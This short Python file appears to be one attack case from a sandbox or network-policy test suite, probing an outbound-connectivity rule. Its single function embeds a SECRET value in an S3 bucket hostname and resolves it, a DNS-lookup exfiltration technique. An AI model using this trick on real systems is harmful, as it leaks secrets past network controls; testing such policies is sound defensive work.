# class: network
# rule: outbound_connectivity
# policy: buckets.yaml
# success: another bucket's name, which carries data, is looked up beside an allowed one
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo(SECRET + ".s3.us-east-1.amazonaws.com", 443)
